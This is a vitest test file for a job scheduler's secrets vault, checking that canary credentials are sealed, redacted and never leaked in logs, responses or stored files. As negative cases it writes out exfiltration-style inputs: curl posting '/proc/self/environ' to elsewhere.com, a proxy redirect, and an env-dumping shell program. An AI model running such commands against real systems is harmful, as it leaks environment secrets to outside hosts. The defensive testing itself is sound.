/** Secrets of jobs are written and never read back: a canary in every slot is found nowhere. */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeEach, expect, test, vi } from 'vitest'
import { Secrets } from '../../src/app/vault/secrets.ts'
import { type CommandHandlerOptions, defineJob, type HandlerOptions } from '../../src/index.ts'
import { openApi } from '../http/api-under-test.ts'
import {
  argvProgram,
  letting,
  nodeAllowing,
  program,
  ranCommand,
  shellProgram,
  testFolder,
} from './command-node.ts'
import { echoServer } from './echo-server.ts'

beforeEach(() => {
  vi.stubEnv('EVERTICK_SECRETS_KEY', 'a-key-for-the-secrets-of-these-tests-0123456789')
  return () => vi.unstubAllEnvs()
})

const canary = 'canary-7f3a9c'
const headers = {
  Authorization: `Bearer ${canary}`,
  Cookie: `sid=${canary}; theme=dark`,
  'Proxy-Authorization': `Basic ${canary}`,
  'X-Api-Key': canary,
  'X-Auth-Token': canary,
  'X-Client-Secret': canary,
  'X-Password': canary,
  'X-Db-Pass': canary,
  'X-Bearer': canary,
  'X-Link': `https://me:${canary}@example.com/`,
  'X-Team': 'money',
}
const env = {
  API_TOKEN: canary,
  DB_PASSWORD: canary,
  AWS_SECRET_ACCESS_KEY: `${canary}"quoted`,
  DB_PASS: canary,
  DATABASE_URL: `postgres://me:${canary}@db/jobs`,
  CACHE: `redis://:${canary}@cache:6379`,
  WAREHOUSE: `Server=db;User Id=sa;Password=${canary};Encrypt=true`,
  TEAM: 'money',
}

test('a canary in every secret slot reaches its goal, and is found nowhere else', async () => {
  // Both give back all that they were sent, as a result and as an error.
  const echo = await echoServer(({ headers: sent }, times) => ({
    status: times === 1 ? 200 : 400,
    headers: { 'content-type': 'application/json', etag: String(sent['x-api-key']) },
    body: JSON.stringify(sent),
  }))
  const prints = argvProgram()
  const fails = shellProgram('env; env >&2; exit 1')
  const folder = testFolder()
  const api = await openApi({
    database: `sqlite:${join(folder, 'evertick.db')}`,
    allowCommands: [prints, fails],
    ...letting(env),
    allowPrivateHosts: [echo.host],
  })
  const { node, call } = api
  const seen: string[] = []
  const ask = async (method: string, path: string, json?: unknown) => {
    const answer = await call(method, `/api/v1${path}`, json)
    seen.push(answer.text)
    return answer
  }
  const handlers: Record<string, HandlerOptions> = {
    calls: { type: 'http', url: echo.url, headers },
    prints: { type: 'command', command: prints, env },
    fails: { type: 'command', command: fails, env },
  }
  for (const [name, handler] of Object.entries(handlers)) {
    expect((await ask('POST', '/jobs', { name, handler, retry: { attempts: 1 } })).status).toBe(201)
    await node.advance('2s')
    await ask('POST', `/jobs/${name}/trigger`)
    await node.advance('2s')
    const kept = (await ask('GET', `/jobs/${name}`)).json.handler
    expect((await ask('PATCH', `/jobs/${name}`, { handler: kept })).status).toBe(200)
    await ask('GET', `/jobs/${name}/revisions`)
    await ask('PATCH', `/jobs/${name}`, { handler: { ...handlers[name], headers: { Cookie: 7 } } })
    const { executions } = (await ask('GET', `/jobs/${name}/executions`)).json as {
      executions: { id: string }[]
    }
    expect(executions.length).toBeGreaterThan(1)
    for (const { id } of executions) {
      await ask('GET', `/executions/${id}`)
      await ask('GET', `/executions/${id}/logs`)
    }
  }
  await ask('GET', '/jobs')
  await ask('GET', '/audit-log')
  await node.stop()
  expect(echo.asked.map(({ headers: sent }) => sent.authorization)).toEqual([
    headers.Authorization,
    headers.Authorization,
  ])
  const files = readdirSync(folder).map((file) => readFileSync(join(folder, file), 'latin1'))
  const everything = [...seen, ...api.logged, ...files]
  // The search itself finds what is there.
  expect(everything.some((text) => text.includes('[redacted]'))).toBe(true)
  expect(everything.some((text) => text.includes('money'))).toBe(true)
  expect(everything.filter((text) => text.includes(canary) || text.includes(canary.slice(0, 9)))).toEqual([])
})

const http = { type: 'http', url: 'https://example.com/a', headers: { Authorization: 'Bearer one' } } as const

test('a redacted value that comes back keeps what was there, but only for where it was meant', async () => {
  const node = await nodeAllowing([], { allowCommandEnv: ['API_TOKEN'] })
  const { jobs } = node.evertick
  await jobs.create({ name: 'call', handler: http })
  const { handler } = await jobs.get('call')
  expect(handler).toMatchObject({ headers: { Authorization: '[redacted]' } })
  const kept = { ...http, headers: { authorization: '[redacted]', 'X-More': '1' } }
  await jobs.update('call', { handler: { ...kept, url: 'https://example.com/b' } })
  for (const url of ['https://elsewhere.com/a', 'http://example.com/a', 'https://example.com:8443/a']) {
    await expect(jobs.update('call', { handler: { ...kept, url } })).rejects.toMatchObject({
      code: 'invalid_definition',
      field: 'handler.headers.authorization',
    })
  }
  expect(await jobs.get('call')).toMatchObject({ handler: { headers: { authorization: '[redacted]' } } })
  const command = { type: 'command', command: '/bin/true', env: { API_TOKEN: 'x' } } as const
  await jobs.update('call', { handler: command })
  const other = { ...command, command: '/bin/echo', env: { API_TOKEN: '[redacted]' } }
  await expect(jobs.update('call', { handler: other })).rejects.toMatchObject({ code: 'invalid_definition' })
  await expect(jobs.create({ name: 'new', handler: other })).rejects.toMatchObject({
    code: 'invalid_definition',
  })
})

test('a sealed variable cannot be passed to another command line without being given anew', async () => {
  const node = await nodeAllowing([], { allowCommandEnv: ['API_TOKEN', 'HTTPS_PROXY', 'BACKUP_URL'] })
  const { jobs } = node.evertick
  const env = { API_TOKEN: 'x', BACKUP_URL: 'ftp://me:x@backup/' }
  const args = ['https://example.com/']
  const handler = { type: 'command', command: '/usr/bin/curl', args, env } as const
  await jobs.create({ name: 'send', handler })
  const kept = { API_TOKEN: '[redacted]', BACKUP_URL: '[redacted]' }
  const { handler: shown } = await jobs.get('send')
  expect(shown).toMatchObject({ env: kept })
  const elsewhere: Partial<CommandHandlerOptions>[] = [
    { command: '/usr/bin/wget' },
    { args: ['--data', '@/proc/self/environ', 'https://elsewhere.com/'] },
    { args: [] },
    { cwd: '/tmp' },
    { env: { ...kept, HTTPS_PROXY: 'http://elsewhere.com' } },
    { env: { ...kept, BACKUP_URL: 'ftp://me:x@elsewhere/' } },
    { env: { API_TOKEN: '[redacted]' } },
  ]
  for (const change of elsewhere) {
    const changed = { ...handler, env: kept, ...change }
    await expect(jobs.update('send', { handler: changed })).rejects.toMatchObject({
      code: 'invalid_definition',
      field: expect.stringMatching(/^handler\.env\./) as string,
      next: expect.stringMatching(/^Give the value of \w+ again\.$/) as string,
    })
  }
  await jobs.update('send', { handler: { ...handler, env: kept } })
  await jobs.update('send', { handler: { ...handler, args: ['--fail', ...args] } })
})

/** Text with the canary across each place where it could be cut. */
const straddling = (at: number) =>
  Array.from({ length: canary.length + 2 }, (_, index) => 'x'.repeat(at - index) + canary + 'y'.repeat(50))

test('of a line that is cut, no part of a secret is kept', async () => {
  const command = program(`#!${process.execPath}
const canary = process.env.API_TOKEN
for (let n = 0; n < canary.length + 2; n += 1) console.log('x'.repeat(4_000 - n) + canary + 'y'.repeat(50))
process.exitCode = 1
`)
  const node = await nodeAllowing([command], letting({ API_TOKEN: '' }))
  const { id, error } = await ranCommand(node, { command, env: { API_TOKEN: canary } })
  await node.advance('2s')
  const lines = (await node.evertick.executions.logs(id)).map(({ message }) => message)
  expect(lines).toHaveLength(canary.length + 2)
  for (const text of [...lines, error?.message ?? '']) expect(text).not.toMatch(/xc|can/)
})

test('of an answer that is cut, no part of a secret is kept', async () => {
  // 500 characters in an error, 64 KiB in a result, 1 MiB of an answer that is read.
  const bodies = [...straddling(500), ...straddling(65_536)]
  const filler = `${canary} `.repeat(Math.ceil(1_048_576 / (canary.length + 1)))
  const all = [...bodies, filler, `x${filler}`, `xyz${filler}`]
  const server = await echoServer((_, times) => ({
    status: times % 2 === 0 ? 200 : 400,
    body: all[Math.floor((times - 1) / 2)] ?? '',
  }))
  const node = await nodeAllowing([], { allowPrivateHosts: [server.host] })
  const { jobs, executions } = node.evertick
  const handler = { type: 'http', url: server.url, headers: { 'X-Api-Key': canary } } as const
  await jobs.create({ name: 'call', handler, retry: { attempts: 1 } })
  for (let n = 0; n < all.length * 2; n += 1) {
    const { id } = await jobs.trigger('call')
    await node.settle()
    const { result, error } = await executions.get(id)
    const kept = JSON.stringify([result, error?.message])
    expect(kept.length).toBeGreaterThan(100)
    expect(kept).not.toMatch(/xc|can/)
  }
})

test('what a secret looks like is taken out of the errors and logs of any handler', async () => {
  const said = `cannot reach postgres://me:${canary}@db/jobs with password=${canary}`
  const noisy = defineJob({
    name: 'noisy',
    retry: { attempts: 1 },
    run: (ctx) => {
      ctx.log.info(said)
      throw new Error(said)
    },
  })
  const node = await nodeAllowing([], { jobs: [noisy] })
  const { id } = await node.evertick.jobs.trigger('noisy')
  await node.advance('2s')
  const { error } = await node.evertick.executions.get(id)
  const [line] = await node.evertick.executions.logs(id)
  for (const text of [error?.message, error?.stack, line?.message]) {
    expect(text).toContain('cannot reach postgres://[redacted]@db/jobs')
    expect(text).not.toContain(canary)
  }
})

test('an edit of something else leaves the handler and its secrets as they are', async () => {
  const server = await echoServer(() => ({}))
  const node = await nodeAllowing([], { allowPrivateHosts: [server.host] })
  const { jobs } = node.evertick
  await jobs.create({ name: 'call', handler: { ...http, url: server.url } })
  await jobs.update('call', { description: 'changed' })
  await jobs.trigger('call')
  await node.settle()
  expect(server.asked[0]?.headers.authorization).toBe('Bearer one')
})

test('a node without the key does not run the job, and says why', async () => {
  const server = await echoServer(() => ({}))
  const database = `sqlite:${join(testFolder(), 'evertick.db')}`
  const first = await nodeAllowing([], { database })
  await first.evertick.jobs.create({
    name: 'call',
    handler: { ...http, url: server.url },
    retry: { attempts: 1 },
  })
  await first.stop()
  vi.stubEnv('EVERTICK_SECRETS_KEY', 'another-key-that-was-never-used-here-9876543210')
  const node = await nodeAllowing([], { database, allowPrivateHosts: [server.host] })
  const { id } = await node.evertick.jobs.trigger('call')
  await node.settle()
  expect(await node.evertick.executions.get(id)).toMatchObject({
    state: 'failed',
    error: { code: 'secret_unreadable' },
  })
  expect(server.asked).toEqual([])
})

test('without any key a secret is not taken, and a job without secrets is', async () => {
  vi.stubEnv('EVERTICK_SECRETS_KEY', '')
  vi.stubEnv('EVERTICK_JWT_SECRET', '')
  const none = new Secrets(() => [])
  expect(() => none.seal('x', 'slot')).toThrow(expect.objectContaining({ code: 'secret_unreadable' }))
  // On SQLite there is always one: beside the file.
  const folder = testFolder()
  const node = await nodeAllowing([], { database: `sqlite:${join(folder, 'evertick.db')}` })
  await node.evertick.jobs.create({ name: 'plain', handler: { type: 'http', url: http.url } })
  expect(readdirSync(folder)).not.toContain('jwt-secret')
  await node.evertick.jobs.create({ name: 'call', handler: http })
  expect(readdirSync(folder)).toContain('jwt-secret')
})

test('what is sealed opens with its own key, in its own place, and only whole', () => {
  const [one, other] = ['first', 'second'].map((word) => `${word}-key-of-at-least-32-bytes-0123456789`)
  const secrets = new Secrets(() => [one ?? ''])
  const sealed = secrets.seal('word', 'slot')
  expect(sealed.sealed).not.toBe(secrets.seal('word', 'slot').sealed)
  expect(secrets.open(sealed, 'slot')).toBe('word')
  expect(new Secrets(() => [other ?? '', one ?? '']).open(sealed, 'slot')).toBe('word')
  const bent = { sealed: sealed.sealed.replace(/.$/, (last) => (last === 'A' ? 'Q' : 'A')) }
  const wrong: (() => string)[] = [
    () => secrets.open(sealed, 'other slot'),
    () => new Secrets(() => [other ?? '']).open(sealed, 'slot'),
    () => secrets.open(bent, 'slot'),
    () => secrets.open({ sealed: '' }, 'slot'),
  ]
  for (const open of wrong) expect(open).toThrow(expect.objectContaining({ code: 'secret_unreadable' }))
  expect(() => new Secrets(() => ['short']).seal('word', 'slot')).toThrow(
    expect.objectContaining({ code: 'weak_secret' }),
  )
})
